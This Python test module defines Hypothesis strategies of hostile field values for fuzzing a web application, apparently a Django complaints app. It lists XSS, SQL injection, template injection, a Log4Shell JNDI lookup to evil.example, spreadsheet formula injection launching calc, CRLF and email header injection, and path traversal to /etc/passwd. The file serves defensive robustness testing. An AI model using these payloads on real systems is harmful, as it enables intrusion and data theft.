"""What nobody of good will types, chooses or sends."""

from __future__ import annotations

from hypothesis import strategies as st

SCRIPT = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>"
MARKS = ("<script>alert(", "<img src=x")
"""What must never stand in a page as it was typed."""

LONG = "Kalimat yang panjang. " * 1_200
HUGE = "x" * 1_000_000

WORDS = (
    "",
    " ",
    "a",
    "\x00",
    "awal\x00akhir",
    "\x1b[31m\x07\x08\x7f",
    "\r\nSet-Cookie: a=b\r\n\r\n",
    "\ud800",
    "\udfff\ud800x",
    "\uffff\ufffe\ufeff",
    "\u202egnp.exe \u2066\u200b\u200d\u2060",
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿" * 5,
    "Z\u0351\u0357\u035b\u0300" * 40,
    "İıßﬁŉǰΐ",
    "\u2028\u2029",
    "شارع الملك فهد",
    SCRIPT,
    "</textarea></title></script><h1>",
    "'; DROP TABLE complaints_complaint; --",
    "1' OR '1'='1' /*",
    "%' AND 1=CAST((SELECT version()) AS int) AND '%'='",
    "{{ 7|add:7 }}{% debug %}{% include 'x' %}{# #}",
    "%s %(name)s %n %d%%",
    "{} {0} {0.__class__.__mro__} {seq} {",
    "${jndi:ldap://evil.example/a}",
    '=1+1+cmd|" /C calc"!A0',
    "@SUM(1+1)",
    "+62\t-1",
    "../../../../etc/passwd",
    "C:\\Windows\\win.ini\x00.jpg",
    "//evil.example/",
    "https://evil.example/?next=//x",
    "javascript:alert(1)",
    "data:text/html,<script>alert(3)</script>",
    "a@b",
    '"><x>"@evil.example',
    "warga@example.org\nBcc: semua@example.org",
    "ada@" + "a" * 300 + ".id",
    "None",
    "null",
    "[]",
    "{}",
    "true",
    "on",
    LONG,
)
NUMBERS = (
    "0",
    "-1",
    "-0",
    "1.5",
    "1,5",
    "9" * 18,
    "9223372036854775808",
    "9" * 40,
    "9" * 5_000,
    "1e999",
    "NaN",
    "inf",
    "-Infinity",
    "0x10",
    "1_000",
    "١٢٣",
    "²",
    "½",
    " 7 ",
    "+7",
    "００７",
)
TIMES = (
    "0000-01-01",
    "0001-01-01",
    "1000-01-01",
    "9999-12-31",
    "10000-01-01",
    "2026-02-30",
    "2026-W01-1",
    "20260101",
    "31/12/9999",
    "2026-01-01T00:00",
    "0001-01-01T00:00",
    "9999-12-31T23:59",
    "9999-12-31T23:59:59.999999+14:00",
    "24:00",
    "1900-01-01",
    "-2026-01-01",
)
BYTES = (b"\xff\xfe\x00", "caf\xe9".encode("latin-1"), "hai".encode("utf-16"), b"\xc0\xaf\xed\xa0\x80")

NAMES = (
    "../../../etc/passwd",
    "..\\..\\boot.ini",
    "\x00.jpg",
    "foto.jpg\r\nX: y",
    "a" * 300 + ".jpg",
    "\u202egpj.exe",
    SCRIPT,
    "",
    ".",
    "=1+1.pdf",
)
"""Of files."""

TYPES = ("image/jpeg", "application/pdf", "text/html", "", "x", "image/svg+xml; charset=utf-7")
CONTENTS = (
    b"",
    b"\x00" * 2_000,
    b"%PDF-1.4 rusak",
    b"\xff\xd8\xff\xe0rusak",
    b"GIF89a" + b"\xff" * 40,
    SCRIPT.encode(),
)

Value = str | bytes

values: st.SearchStrategy[Value] = st.one_of(
    st.sampled_from(WORDS),
    st.sampled_from(WORDS),
    st.sampled_from(NUMBERS),
    st.sampled_from(TIMES),
    st.sampled_from(BYTES),
    st.text(max_size=60),
)
"""One value of a field, of whatever kind it is."""
